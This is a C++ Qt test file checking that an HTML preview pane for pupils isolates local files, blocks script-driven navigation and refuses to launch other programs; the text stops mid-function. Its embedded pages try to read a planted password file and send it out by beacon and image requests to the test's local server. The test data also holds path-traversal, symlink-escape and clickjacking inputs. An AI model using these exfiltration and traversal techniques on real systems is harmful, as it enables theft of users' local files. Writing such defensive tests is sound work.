// A pasted page is untrusted: the files of the pupil's folder show in it but its scripts cannot read them,
// and no folder is shown before the pupil opens or saves a file. A local page typed into the address bar
// shows the files of its own folder by the same rules. Every page reports what it got to the test's own
// server on 127.0.0.1, the way an attacker would send it out.
#include "messagecatcher.h"
#include "pagescript.h"
#include "preview/core/browsingrules.h"
#include "previewfixture.h"
#include "testfiles.h"
#include "widgettestmain.h"

#include <QDesktopServices>
#include <QDir>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QUrlQuery>
#include <QWebEnginePage>

#include <memory>

namespace {

constexpr int loadTimeout = 30000;

// A page that loads the files of a folder every way a page shows files, tries every way a script could read
// them, and sends what it got to the report address, by a beacon and by an image request. `%1` is the
// report address, `%2` a prefix put before each file's relative address.
const char readingPage[] = R"html(<!DOCTYPE html>
<p id="styled">styled</p>
<script>
var got = {};
var pending = 6;
function note(channel, value) {
  got[channel] = String(value);
  if (--pending === 0) {
    var report = JSON.stringify(got);
    navigator.sendBeacon('%1?beacon=' + encodeURIComponent(report));
    new Image().src = '%1?image=' + encodeURIComponent(report);
  }
}
window.onerror = function (message) { note('script-error', message); };
function readPicture(img) {
  var canvas = document.createElement('canvas');
  canvas.width = 3; canvas.height = 2;
  var context = canvas.getContext('2d');
  context.drawImage(img, 0, 0);
  var pixels;
  try { pixels = Array.from(context.getImageData(0, 0, 1, 1).data).join(','); }
  catch (e) { pixels = 'refused'; }
  var dataUrl;
  try { dataUrl = canvas.toDataURL().length > 30 ? 'read' : 'empty'; } catch (e) { dataUrl = 'refused'; }
  note('picture', 'shown ' + img.naturalWidth + 'x' + img.naturalHeight + ' pixels ' + pixels +
       ' data ' + dataUrl);
}
function readStyle(link) {
  var color = getComputedStyle(document.getElementById('styled')).color;
  var rules;
  try { rules = link.sheet.cssRules.length ? link.sheet.cssRules[0].cssText : 'none'; }
  catch (e) { rules = 'refused'; }
  note('style', 'applied ' + color + ' rules ' + rules);
}
function readFrame(frame) {
  var text;
  try { text = frame.contentDocument ? frame.contentDocument.body.textContent : 'refused'; }
  catch (e) { text = 'refused'; }
  note('frame', 'shown ' + text);
}
fetch('%2password.txt').then(function (r) { return r.text(); })
  .then(function (t) { note('fetch', t); }, function () { note('fetch', 'refused'); });
var request = new XMLHttpRequest();
request.onload = function () { note('xhr', request.responseText); };
request.onerror = function () { note('xhr', 'refused'); };
try { request.open('GET', '%2password.txt'); request.send(); } catch (e) { note('xhr', 'refused'); }
</script>
<img src="%2photo.png" onload="readPicture(this)" onerror="note('picture', 'failed')">
<link rel="stylesheet" href="%2style.css" onload="readStyle(this)" onerror="note('style', 'failed')">
<iframe src="%2secret.html" onload="readFrame(this)"></iframe>
<script src="%2password.txt"></script>
)html";

// A page that runs one reader (`%2`) once loaded and sends what it got to the report address (`%1`) by a
// beacon. A reader that gets nothing says how it failed; one that hears nothing within a few seconds says
// "silent".
const char oneReaderPage[] = R"html(<!DOCTYPE html>
<p id="styled">styled</p>
<script>
var reported = false;
function note(value) {
  if (reported) return;
  reported = true;
  navigator.sendBeacon('%1?beacon=' + encodeURIComponent(JSON.stringify({ reader: String(value) })));
}
setTimeout(function () { note('silent'); }, 4000);
function failure(e) { return 'failed ' + (e && e.name ? e.name : 'event'); }
window.onerror = function (message) { note('error ' + message); };
</script>
%2
)html";

// The folder's files that the readers try, each holding the word "hunter2" or the colour 12,34,56.
void writeReadersFolder(const QString &folder)
{
    writePicture(folder + QStringLiteral("/photo.png"));
    writeFile(folder + QStringLiteral("/style.css"), "#styled { color: rgb(0, 128, 0); } .hunter2 { }");
    writeFile(folder + QStringLiteral("/password.txt"), "hunter2");
    writeFile(folder + QStringLiteral("/secret.json"), "{ \"word\": \"hunter2\" }");
    writeFile(folder + QStringLiteral("/secret.js"), "hunter2");
    writeFile(folder + QStringLiteral("/exports.js"), "export const word = 'hunter2';");
    writeFile(folder + QStringLiteral("/captions.vtt"), "WEBVTT\n\n00:00.000 --> 00:10.000\nhunter2\n");
}

} // namespace

class TestPreviewIsolation : public PreviewFixture
{
    Q_OBJECT

private Q_SLOTS:
    void relativeFilesShowButCannotBeRead_data();
    void relativeFilesShowButCannotBeRead();
    void corsModeReadersGetNothing_data();
    void corsModeReadersGetNothing();
    void folderFontStillApplies();
    void onlyOrdinaryFilesOfThePupilsFolderShow();
    void typedLocalPageOfAHiddenOrHomeFolderShowsNoFile_data();
    void typedLocalPageOfAHiddenOrHomeFolderShowsNoFile();
    void linksOfATypedPageOpenThePagesOfItsFolder();
    void localPageCannotReadTheDocumentOrItself();
    void noFolderBeforeOpenOrSaveNorAtHome();
    void pupilsRelativeLinkOpensTheLocalPage();
    void onlyThePupilsLinkOrFormLeaves_data();
    void onlyThePupilsLinkOrFormLeaves();
    void otherSchemesStartNoProgram_data();
    void otherSchemesStartNoProgram();

public Q_SLOTS:
    // Stands in for the desktop's opener of the addresses of other programs.
    void openedByDesktop(const QUrl &url) { m_openedByDesktop << url.toString(); }

private:
    // Renders the page and waits until it says in its title that it is painted and ready for input.
    void renderAndWaitReady(const QString &html);
    // Renders a picture for each address, each reporting in its alt text whether it showed, and waits until
    // every one has; their states in order, "shown" or "failed", joined by spaces.
    QString pictureStates(const QStringList &addresses);
    // The reading page, reporting to the test's server.
    QString readingPageHtml(const QString &prefix) const;
    // Renders the reading page and returns what it reported by beacon; empty when no report came.
    QJsonObject reportOfReadingPage(const QString &prefix);
    // What the reading page shown reported by beacon; empty when no report came.
    QJsonObject readingReport();
    // Types the local path into the pane as the address bar hands it on, and waits until the page has loaded.
    void typeLocalPath(const QString &path);
    // The states of the pictures of the page shown, "shown" or "failed" joined by spaces, once each has one.
    QString shownPictureStates(int count);

    QStringList m_openedByDesktop;
};

QString TestPreviewIsolation::readingPageHtml(const QString &prefix) const
{
    return QString::fromUtf8(readingPage)
        .replace(QStringLiteral("%1"), m_server->url(QStringLiteral("/report")).toString())
        .replace(QStringLiteral("%2"), prefix);
}

QJsonObject TestPreviewIsolation::reportOfReadingPage(const QString &prefix)
{
    m_pane->renderHtml(readingPageHtml(prefix));
    return readingReport();
}

QJsonObject TestPreviewIsolation::readingReport()
{
    const QString beacon = QStringLiteral("/report?beacon=");
    if (!m_server->waitForRequest(beacon, loadTimeout))
        return {};
    const QString report = QUrlQuery(QUrl(m_server->requestsStartingWith(beacon).constFirst()).query())
                               .queryItemValue(QStringLiteral("beacon"), QUrl::FullyDecoded);
    return QJsonDocument::fromJson(report.toUtf8()).object();
}

void TestPreviewIsolation::relativeFilesShowButCannotBeRead_data()
{
    QTest::addColumn<bool>("typedPage"); // a local page typed into the address bar rather than the document

    QTest::newRow("the pupil's document") << false;
    QTest::newRow("a local page typed into the address bar") << true;
}

void TestPreviewIsolation::relativeFilesShowButCannotBeRead()
{
    QFETCH(bool, typedPage);
    QTemporaryDir folder;
    writePicture(folder.filePath(QStringLiteral("photo.png")));
    writeFile(folder.filePath(QStringLiteral("style.css")), "#styled { color: rgb(0, 128, 0); }");
    writeFile(folder.filePath(QStringLiteral("password.txt")), "hunter2");
    writeFile(folder.filePath(QStringLiteral("secret.html")), "<p>confidential</p>");
    QJsonObject report;
    if (typedPage) {
        const QString page = folder.filePath(QStringLiteral("page.html"));
        writeFile(page, readingPageHtml(QString()).toUtf8());
        m_pane->navigate(addressFromTypedText(page));
        report = readingReport();
        // The page shows where the pupil typed it from.
        QCOMPARE(m_pane->locationUrl(), QUrl::fromLocalFile(QFileInfo(page).canonicalFilePath()).toString());
    } else {
        m_pane->setBaseFolder(folder.path());
        report = reportOfReadingPage(QString());
    }

    // Every file showed, and no script got any of their contents.
    QCOMPARE(report.value(QStringLiteral("picture")).toString(),
             QStringLiteral("shown 3x2 pixels refused data refused"));
    QCOMPARE(report.value(QStringLiteral("style")).toString(),
             QStringLiteral("applied rgb(0, 128, 0) rules refused"));
    QCOMPARE(report.value(QStringLiteral("frame")).toString(), QStringLiteral("shown refused"));
    QCOMPARE(report.value(QStringLiteral("script-error")).toString(), QStringLiteral("Script error."));
    QCOMPARE(report.value(QStringLiteral("fetch")).toString(), QStringLiteral("refused"));
    QCOMPARE(report.value(QStringLiteral("xhr")).toString(), QStringLiteral("refused"));
}

void TestPreviewIsolation::corsModeReadersGetNothing_data()
{
    QTest::addColumn<QString>("reader");
    QTest::addColumn<bool>("typedPage"); // a local page typed into the address bar rather than the document

    // Loads that ask the engine for the file's contents ("crossorigin", modules, text tracks); each reader
    // notes what it read, which must never be the file's contents.
    const QList<QPair<const char *, QString>> readers = {
        {"picture read through a canvas",
         QStringLiteral(
             "<img crossorigin src=\"photo.png\" onerror=\"note('failed')\" onload=\"var c ="
             " document.createElement('canvas'); var x = c.getContext('2d'); x.drawImage(this, 0, 0);"
             " try { note('read ' + Array.from(x.getImageData(0, 0, 1, 1).data).join(',')); }"
             " catch (e) { note(failure(e)); }\">")},
        {"style sheet's rules",
         QStringLiteral("<link rel=\"stylesheet\" crossorigin href=\"style.css\" onerror=\"note('failed')\""
                        " onload=\"try { note('read ' + Array.from(this.sheet.cssRules).map(function (r) {"
                        " return r.cssText; }).join(' ')); } catch (e) { note(failure(e)); }\">")},
        {"script's error message",
         QStringLiteral("<script crossorigin src=\"password.txt\" onerror=\"note('failed')\""
                        " onload=\"setTimeout(function () { note('ran'); }, 500)\"></script>")},
        {"JSON module", QStringLiteral("<script>import('./secret.json', { assert: { type: 'json' } }).then("
                                       "function (m) { note('read ' + JSON.stringify(m.default)); },"
                                       " function (e) { note(failure(e) + ' ' + e.message); });</script>")},
        {"CSS module",
         QStringLiteral("<script>import('./style.css', { assert: { type: 'css' } }).then("
                        "function (m) { note('read ' + Array.from(m.default.cssRules).map(function (r) {"
                        " return r.cssText; }).join(' ')); },"
                        " function (e) { note(failure(e) + ' ' + e.message); });</script>")},
        {"module script's error",
         QStringLiteral("<script>import('./secret.js').then(function () { note('ran'); },"
                        " function (e) { note(failure(e) + ' ' + e.message); });</script>")},
        {"module script's exports",
         QStringLiteral("<script>import('./exports.js').then(function (m) { note('read ' + m.word); },"
                        " function (e) { note(failure(e) + ' ' + e.message); });</script>")},
        {"module script element",
         QStringLiteral("<script type=\"module\" src=\"secret.js\" onerror=\"note('failed')\"></script>")},
        {"text track of a video",
         QStringLiteral("<video crossorigin><track id=\"track\" kind=\"subtitles\" src=\"captions.vtt\""
                        " onerror=\"note('failed')\" onload=\"var cues = this.track.cues;"
                        " note('read ' + (cues && cues.length ? cues[0].text : 'nothing'))\"></video>"
                        "<script>document.getElementById('track').track.mode = 'hidden';</script>")},
    };
    for (const auto &reader : readers) {
        QTest::addRow("%s, the pupil's document", reader.first) << reader.second << false;
        QTest::addRow("%s, a typed local page", reader.first) << reader.second << true;
    }
}

void TestPreviewIsolation::corsModeReadersGetNothing()
{
    QFETCH(QString, reader);
    QFETCH(bool, typedPage);
    QTemporaryDir folder;
    writeReadersFolder(folder.path());
    const QString html =
        QString::fromUtf8(oneReaderPage)
            .replace(QStringLiteral("%1"), m_server->url(QStringLiteral("/report")).toString())
            .replace(QStringLiteral("%2"), reader);
    if (typedPage) {
        const QString page = folder.filePath(QStringLiteral("page.html"));
        writeFile(page, html.toUtf8());
        m_pane->navigate(addressFromTypedText(page));
    } else {
        m_pane->setBaseFolder(folder.path());
        m_pane->renderHtml(html);
    }
    const QString got = readingReport().value(QStringLiteral("reader")).toString();

    QVERIFY2(!got.isEmpty(), "the reader reported nothing");
    QVERIFY2(!got.contains(QStringLiteral("hunter2")) && !got.contains(QStringLiteral("12,34,56")) &&
                 !got.contains(QStringLiteral("styled")),
             qPrintable(got));
}

// A font is asked for with the right to read it, like the readers above, yet no script reads its bytes: the
// folder's fonts still apply.
void TestPreviewIsolation::folderFontStillApplies()
{
    const QString systemFont = QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf");
    if (!QFile::exists(systemFont))
        QSKIP("no DejaVu Sans font file to copy");
    QTemporaryDir folder;
    QVERIFY(QFile::copy(systemFont, folder.filePath(QStringLiteral("font.ttf"))));
    m_pane->setBaseFolder(folder.path());
    m_pane->renderHtml(QStringLiteral("<style>@font-face { font-family: Pupils; src: url(font.ttf); }</style>"
                                      "<p style=\"font-family: Pupils\">Γράμματα</p>"));

    QCOMPARE(evaluateInPageUntil(m_pane->page(),
                                 QStringLiteral("Array.from(document.fonts).map(function (f) {"
                                                " return f.status; }).join(' ')"),
                                 QStringLiteral("loaded"), loadTimeout),
             QVariant(QStringLiteral("loaded")));
}

void TestPreviewIsolation::typeLocalPath(const QString &path)
{
    QSignalSpy finished(m_pane->page(), &QWebEnginePage::loadFinished);
    m_pane->navigate(addressFromTypedText(path));
    QVERIFY(finished.wait(loadTimeout));
}

QString TestPreviewIsolation::shownPictureStates(int count)
{
    const QString states = QStringLiteral("Array.from(document.images).map(function (i) { return i.alt; })"
                                          ".join(' ')");
    QString answer;
    const bool answered = QTest::qWaitFor(
        [&] {
            answer = evaluateInPage(m_pane->page(), states, loadTimeout).toString();
            return answer.split(u' ', Qt::SkipEmptyParts).size() == count;
        },
        loadTimeout);
    return answered ? answer : QString();
}

void TestPreviewIsolation::typedLocalPageOfAHiddenOrHomeFolderShowsNoFile_data()
{
    QTest::addColumn<QString>("folder"); // inside the temporary folder, which stands for the home folder
    QTest::addColumn<QString>("states");

    QTest::newRow("an ordinary folder") << "site"
                                        << "shown";
    QTest::newRow("a hidden folder") << ".site"
                                     << "failed";
    QTest::newRow("a folder inside a hidden one") << ".config/site"
                                                  << "failed";
    QTest::newRow("the home folder itself") << ""
                                            << "failed";
}

void TestPreviewIsolation::typedLocalPageOfAHiddenOrHomeFolderShowsNoFile()
{
    QFETCH(QString, folder);
    QFETCH(QString, states);
    QTemporaryDir home;
    const QByteArray previousHome = qgetenv("HOME");
    qputenv("HOME", home.path().toLocal8Bit());
    const QString site = folder.isEmpty() ? home.path() : home.filePath(folder);
    writePicture(site + QStringLiteral("/picture.png"));
    writeFile(site + QStringLiteral("/page.html"),
              "<img src=\"picture.png\" onload=\"this.alt='shown'\" onerror=\"this.alt='failed'\">");

    typeLocalPath(site + QStringLiteral("/page.html"));
    const QString shown = shownPictureStates(1);

    qputenv("HOME", previousHome);
    QCOMPARE(shown, states);
}

void TestPreviewIsolation::linksOfATypedPageOpenThePagesOfItsFolder()
{
    // A typed page leads to a page of a folder below, whose picture and link lead back up within the folder
    // the pupil typed the first page from, as on a web site.
    QTemporaryDir folder;
    writePicture(folder.filePath(QStringLiteral("photo.png")));
    const QString first = folder.filePath(QStringLiteral("index.html"));
    const QString second = folder.filePath(QStringLiteral("chapter/two.html"));
    writeFile(first, "<a id=\"link\" href=\"chapter/two.html\">two</a>");
    writeFile(second, "<title>two</title><img src=\"../photo.png\" onload=\"this.alt='shown'\""
                      " onerror=\"this.alt='failed'\"><a id=\"link\" href=\"../index.html\">back</a>");
    typeLocalPath(first);
    QCOMPARE(evaluateInPageUntil(m_pane->page(), QStringLiteral("!!document.getElementById('link')"), true),
             QVariant(true));

    QTest::mouseClick(m_pane->focusProxy(), Qt::LeftButton, {}, centreOf(QStringLiteral("link")));

    QTRY_COMPARE_WITH_TIMEOUT(m_pane->locationUrl(),
                              QUrl::fromLocalFile(QFileInfo(second).canonicalFilePath()).toString(),
                              loadTimeout);
    QCOMPARE(shownPictureStates(1), QStringLiteral("shown"));

    QTest::mouseClick(m_pane->focusProxy(), Qt::LeftButton, {}, centreOf(QStringLiteral("link")));

    QTRY_COMPARE_WITH_TIMEOUT(m_pane->locationUrl(),
                              QUrl::fromLocalFile(QFileInfo(first).canonicalFilePath()).toString(),
                              loadTimeout);
}

void TestPreviewIsolation::localPageCannotReadTheDocumentOrItself()
{
    // The pupil's document holds a secret; a local page typed afterwards asks for the document's address and
    // its own, and reports what each request got.
    m_pane->renderHtml(QStringLiteral("<p id=\"secret\">the pupil's secret</p>"));
    QCOMPARE(evaluateInPageUntil(m_pane->page(),
                                 QStringLiteral("(document.getElementById('secret') || {}).textContent"),
                                 QStringLiteral("the pupil's secret")),
             QVariant(QStringLiteral("the pupil's secret")));
    const QString document = m_pane->page()->url().toString();
    QTemporaryDir folder;
    const QString page = folder.filePath(QStringLiteral("page.html"));
    writeFile(page,
              QStringLiteral(
                  "<p>own markup</p><script>"
                  "function read(what, address) {"
                  "  var request = new XMLHttpRequest();"
                  "  request.onload = function () {"
                  "    new Image().src = '%1?' + what + '=' + encodeURIComponent(request.responseText); };"
                  "  request.onerror = function () { new Image().src = '%1?' + what + '=refused'; };"
                  "  try { request.open('GET', address); request.send(); }"
                  "  catch (e) { new Image().src = '%1?' + what + '=refused'; } }"
                  "read('document', '%2'); read('itself', location.href);</script>")
                  .arg(m_server->url(QStringLiteral("/report")).toString(), document)
                  .toUtf8());

    typeLocalPath(page);

    QVERIFY(m_server->waitForRequest(QStringLiteral("/report?document"), loadTimeout));
    QVERIFY(m_server->waitForRequest(QStringLiteral("/report?itself"), loadTimeout));
    QVERIFY(m_server->requests().contains(QStringLiteral("/report?document=refused")));
    QVERIFY(m_server->requests().contains(QStringLiteral("/report?itself=refused")));
}

QString TestPreviewIsolation::pictureStates(const QStringList &addresses)
{
    QString html;
    for (const QString &address : addresses)
        html += QStringLiteral("<img src=\"%1\" onload=\"this.alt='shown'\" onerror=\"this.alt='failed'\">")
                    .arg(address.toHtmlEscaped());
    m_pane->renderHtml(html);
    const QString states = QStringLiteral("Array.from(document.images).map(function (i) { return i.alt; })"
                                          ".join(' ')");
    QString answer;
    // Pictures that did not answer in time show in the caller's comparison.
    static_cast<void>(QTest::qWaitFor(
        [&] {
            answer = evaluateInPage(m_pane->page(), states, loadTimeout).toString();
            return answer.split(u' ', Qt::SkipEmptyParts).size() == addresses.size();
        },
        loadTimeout));
    return answer;
}

void TestPreviewIsolation::onlyOrdinaryFilesOfThePupilsFolderShow()
{
    QTemporaryDir root;
    const QString site = root.filePath(QStringLiteral("site"));
    writePicture(site + QStringLiteral("/picture.png"));
    writePicture(site + QStringLiteral("/pictures/sub.png"));
    writePicture(site + QStringLiteral("/.hidden.png"));
    writePicture(site + QStringLiteral("/.cache/cached.png"));
    writePicture(root.filePath(QStringLiteral("outside.png")));
    QVERIFY(
        QFile::link(root.filePath(QStringLiteral("outside.png")), site + QStringLiteral("/out-link.png")));
    QVERIFY(QFile::link(site + QStringLiteral("/picture.png"), site + QStringLiteral("/in-link.png")));
    QVERIFY(QFile::link(root.path(), site + QStringLiteral("/up")));
    m_pane->setBaseFolder(site);

    const QString fileAddress = QUrl::fromLocalFile(site).toString();
    QCOMPARE(pictureStates({QStringLiteral("picture.png"), QStringLiteral("pictures/sub.png"),
                            QStringLiteral("in-link.png"), fileAddress + QStringLiteral("/picture.png"),
                            QStringLiteral(".hidden.png"), QStringLiteral(".cache/cached.png"),
                            QStringLiteral("pictures/../.hidden.png"), QStringLiteral("../outside.png"),
                            QStringLiteral("%2e%2e/outside.png"), QStringLiteral("..%2Foutside.png"),
                            QStringLiteral("out-link.png"), QStringLiteral("up/outside.png"),
                            fileAddress + QStringLiteral("/.hidden.png"),
                            fileAddress + QStringLiteral("/up/outside.png"), QStringLiteral("missing.png")}),
             QStringLiteral("shown shown shown shown failed failed failed failed failed failed failed failed "
                            "failed failed failed"));
}

void TestPreviewIsolation::noFolderBeforeOpenOrSaveNorAtHome()
{
    // Started from a desktop menu, the current directory is the home folder; neither it nor any other folder
    // shows anything until the pupil opens or saves a file, and the home folder itself never does.
    QTemporaryDir home;
    writePicture(home.filePath(QStringLiteral("picture.png")));
    const QString previousDirectory = QDir::currentPath();
    const QByteArray previousHome = qgetenv("HOME");
    QDir::setCurrent(home.path());
    qputenv("HOME", home.path().toLocal8Bit());
    const QStringList addresses = {
        QStringLiteral("picture.png"),
        QUrl::fromLocalFile(home.filePath(QStringLiteral("picture.png"))).toString()};

    const QString beforeAnyFile = pictureStates(addresses);
    m_pane->setBaseFolder(home.path());
    const QString atHome = pictureStates(addresses);
    m_pane->setBaseFolder(QStringLiteral("/"));
    const QString atRoot = pictureStates({QStringLiteral("etc/hostname")});

    QDir::setCurrent(previousDirectory);
    qputenv("HOME", previousHome);
    QCOMPARE(beforeAnyFile, QStringLiteral("failed failed"));
    QCOMPARE(atHome, QStringLiteral("failed failed"));
    QCOMPARE(atRoot, QStringLiteral("failed"));
}

void TestPreviewIsolation::renderAndWaitReady(const QString &html)
{
    m_pane->renderHtml(
        QStringLiteral("<script>window.addEventListener('load', function () {"
                       " requestAnimationFrame(function () { requestAnimationFrame(function () {"
                       " if (document.title === '') document.title = 'ready'; }); }); });"
                       "</script>") +
        html);
    QTRY_VERIFY_WITH_TIMEOUT(m_pane->page()->title() == QLatin1String("ready") ||
                                 m_pane->page()->title() == QLatin1String("settled"),
                             loadTimeout);
}

void TestPreviewIsolation::pupilsRelativeLinkOpensTheLocalPage()
{
    QTemporaryDir folder;
    writeFile(folder.filePath(QStringLiteral("page2.html")), "<title>second page</title><p>second</p>");
    m_pane->setBaseFolder(folder.path());
    renderAndWaitReady(QStringLiteral("<a id=\"link\" href=\"page2.html\">next</a>"));

    QTest::mouseClick(m_pane->focusProxy(), Qt::LeftButton, {}, centreOf(QStringLiteral("link")));

    QTRY_COMPARE_WITH_TIMEOUT(
        m_pane->locationUrl(),
        QUrl::fromLocalFile(QFileInfo(folder.filePath(QStringLiteral("page2.html"))).canonicalFilePath())
            .toString(),
        loadTimeout);
}

void TestPreviewIsolation::onlyThePupilsLinkOrFormLeaves_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("action");
    QTest::addColumn<bool>("leaves");

    // A page that tries to leave for %1 all the time, and another that waits for a click on a link to open
    // a window a few seconds later, the way the engine's own "user's click" lasts.
    const QString polling =
        QStringLiteral("<div style=\"height: 3000px\">tall</div>"
                       "<script>setInterval(function () { location.href = '%1'; }, 50);</script>");
    const QString openLater =
        QStringLiteral("<a id=\"link\" href=\"#here\">here</a><script>window.settleAfter = %2 + 1000;"
                       "document.getElementById('link').addEventListener('click', function () {"
                       " setTimeout(function () { window.open('%1'); }, %2); });</script>");
    QTest::newRow("polling page, click on an empty area") << polling << "empty" << false;
    QTest::newRow("polling page, click on the scroll bar") << polling << "scrollbar" << false;
    QTest::newRow("polling page, PageDown") << polling << "PageDown" << false;
    QTest::newRow("polling page, arrow down") << polling << "Down" << false;
    QTest::newRow("window opened 3 s after a click on a link")
        << QString(openLater).replace(QStringLiteral("%2"), QStringLiteral("3000")) << "link" << false;
    QTest::newRow("window opened 4.6 s after a click on a link")
        << QString(openLater).replace(QStringLiteral("%2"), QStringLiteral("4600")) << "link" << false;
    QTest::newRow("Enter in a form's field")
        << QStringLiteral("<form action=\"%1\"><input id=\"field\" name=\"q\"></form>") << "field" << true;
    // A click a label forwards to its control arrives with the engine's trust, and a Space pressed to scroll
    // activates whatever has the focus: neither is the pupil's when the pupil did not press on what leaves,
    // cannot see it, or did not focus it.
    QTest::newRow("a script clicks the label of a hidden button")
        << QStringLiteral("<button id=\"b\" hidden></button><label id=\"l\" for=\"b\"></label><script>"
                          "setTimeout(function () { document.getElementById('l').click();"
                          " location.href = '%1'; }, 500); settle();</script>")
        << "none" << false;
    QTest::newRow("a page-wide transparent label over a hidden button")
        << QStringLiteral("<button id=\"b\" hidden onclick=\"location.href = '%1'\"></button>"
                          "<label for=\"b\" style=\"position: fixed; inset: 0; z-index: 10\"></label>")
        << "empty" << false;
    QTest::newRow("an invisible button focused after each mouse-up, Space")
        << QStringLiteral("<div style=\"height: 3000px\">tall</div>"
                          "<button id=\"b\" style=\"position: fixed; top: 0; left: 0; opacity: 0\""
                          " onclick=\"location.href = '%1'\">go</button><script>"
                          "window.addEventListener('mouseup', function () {"
                          " document.getElementById('b').focus(); });</script>")
        << "empty then Space" << false;
    QTest::newRow("a visible button focused after each mouse-up, Space")
        << QStringLiteral("<div style=\"height: 3000px\">tall</div>"
                          "<button id=\"b\" style=\"position: fixed; top: 0; left: 0\""
                          " onclick=\"location.href = '%1'\">go</button><script>"
                          "window.addEventListener('mouseup', function () {"
                          " document.getElementById('b').focus(); });</script>")
        << "empty then Space" << false;
    // The pupil's own activations still leave.
    QTest::newRow("a click on a visible button")
        << QStringLiteral("<button id=\"field\" onclick=\"location.href = '%1'\">go</button>") << "click"
        << true;
    QTest::newRow("Space on a button the pupil reached by Tab")
        << QStringLiteral("<button id=\"field\" onclick=\"location.href = '%1'\">go</button>")
        << "Tab then Space" << true;
}

void TestPreviewIsolation::onlyThePupilsLinkOrFormLeaves()
{
    QFETCH(QString, page);
    QFETCH(QString, action);
    QFETCH(bool, leaves);
    // The page says in its title when it is ready for input (painted), and again a while after the pupil's
    // first click, key or scroll, long enough for anything it tries to have gone through.
    const QString settle = QStringLiteral(
        "<script>var settling = false; function settle() { if (settling) return; settling = true;"
        " setTimeout(function () { document.title = 'settled'; }, window.settleAfter || 1500); }"
        "['mousedown', 'keydown', 'scroll'].forEach(function (type) {"
        " window.addEventListener(type, settle, true); });</script>");
    renderAndWaitReady(settle + QString(page).replace(QStringLiteral("%1"),
                                                      m_server->url(QStringLiteral("/attack")).toString()));
    QWidget *input = m_pane->focusProxy();
    QVERIFY(input);
    input->setFocus();

    if (action == QLatin1String("empty")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(300, 400));
    } else if (action == QLatin1String("scrollbar")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(m_pane->width() - 6, m_pane->height() - 60));
    } else if (action == QLatin1String("PageDown")) {
        QTest::keyClick(input, Qt::Key_PageDown);
    } else if (action == QLatin1String("Down")) {
        QTest::keyClick(input, Qt::Key_Down);
    } else if (action == QLatin1String("link")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("link")));
    } else if (action == QLatin1String("empty then Space")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(300, 400));
        QTest::keyClick(input, Qt::Key_Space);
    } else if (action == QLatin1String("click")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("field")));
    } else if (action == QLatin1String("Tab then Space")) {
        QTest::keyClick(input, Qt::Key_Tab);
        QTest::keyClick(input, Qt::Key_Space);
    } else if (action != QLatin1String("none")) {
        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("field")));
        QTest::keyClick(input, Qt::Key_Return);
    }

    if (leaves) {
        QVERIFY(m_server->waitForRequest(QStringLiteral("/attack"), loadTimeout));
        return;
    }
    const auto attacked = [this] {
        return !m_server->requestsStartingWith(QStringLiteral("/attack")).isEmpty();
    };
    QVERIFY(QTest::qWaitFor([&] { return attacked() || m_pane->page()->title() == QLatin1String("settled"); },
                            loadTimeout));
    QVERIFY(!attacked());
    QCOMPARE(m_pane->locationUrl(), QStringLiteral("about:blank"));
}

void TestPreviewIsolation::otherSchemesStartNoProgram_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<bool>("pupilClicks");
    QTest::addColumn<QString>("address");
    QTest::addColumn<bool>("webPage"); // served by the test's server and browsed, not the pupil's document

    const QString link = QStringLiteral("<a id=\"link\" href=\"%1\">link</a>");
    const QString leave = QStringLiteral("<script>location.href = '%1';</script>");
    QTest::newRow("the pupil clicks a network share link")
        << link << true << QStringLiteral("smb://127.0.0.1/share/file.txt") << false;
    QTest::newRow("the pupil clicks a mail link")
        << link << true << QStringLiteral("mailto:pupil@example.org") << false;
    QTest::newRow("the pupil clicks a link of another program in a web page")
        << link << true << QStringLiteral("x-custom-app://run?what=0") << true;
    QTest::newRow("the page clicks a link of another program")
        << link + QStringLiteral("<script>document.getElementById('link').click();</script>") << false
        << QStringLiteral("x-custom-app://run?what=1") << false;
    QTest::newRow("the page sends itself to another program")
        << leave << false << QStringLiteral("x-custom-app://run?what=2") << false;
    QTest::newRow("a web page sends itself to another program")
        << leave << false << QStringLiteral("x-custom-app://run?what=3") << true;
    QTest::newRow("a frame of another program") << QStringLiteral("<iframe src=\"%1\"></iframe>") << false
                                                << QStringLiteral("x-custom-app://run?what=4") << false;
}

void TestPreviewIsolation::otherSchemesStartNoProgram()
{
    QFETCH(QString, page);
    QFETCH(bool, pupilClicks);
    QFETCH(QString, address);
    QFETCH(bool, webPage);
    // A desktop opener of our own comes first on the path, and the program's own way of handing addresses to
    // the desktop is watched too.
    QTemporaryDir bin;
    const QString marker = bin.filePath(QStringLiteral("opened"));
    writeFile(bin.filePath(QStringLiteral("xdg-open")),
              "#!/bin/sh\necho \"$@\" >> '" + marker.toUtf8() + "'\n");
    QVERIFY(QFile::setPermissions(bin.filePath(QStringLiteral("xdg-open")),
                                  QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner));
    const QByteArray path = qgetenv("PATH");
    qputenv("PATH", bin.path().toLocal8Bit() + ':' + path);
    const QString scheme = QUrl(address).scheme();
    QDesktopServices::setUrlHandler(scheme, this, "openedByDesktop");
    m_openedByDesktop.clear();
    MessageCatcher catcher;

    // The page's attempt comes last: a document that starts to leave stops reading its own markup.
    const QString html =
        QStringLiteral("<script>setTimeout(function () { document.title = 'settled'; }, 1500);"
                       "</script>") +
        QString(page).replace(QStringLiteral("%1"), address);
    if (webPage) {
        m_server->serve(QStringLiteral("/web.html"), "text/html", html.toUtf8());
        m_pane->navigate(m_server->url(QStringLiteral("/web.html")));
        QTRY_COMPARE_WITH_TIMEOUT(m_pane->page()->title(), QStringLiteral("settled"), loadTimeout);
    } else {
        renderAndWaitReady(html);
    }
    if (pupilClicks) {
        QWidget *input = m_pane->focusProxy();
        QVERIFY(input);
        QTest::mouseClick(input, Qt::LeftButton, {}, centreOf(QStringLiteral("link")));
        QTRY_VERIFY_WITH_TIMEOUT(!catcher.texts().isEmpty(), loadTimeout);
    }
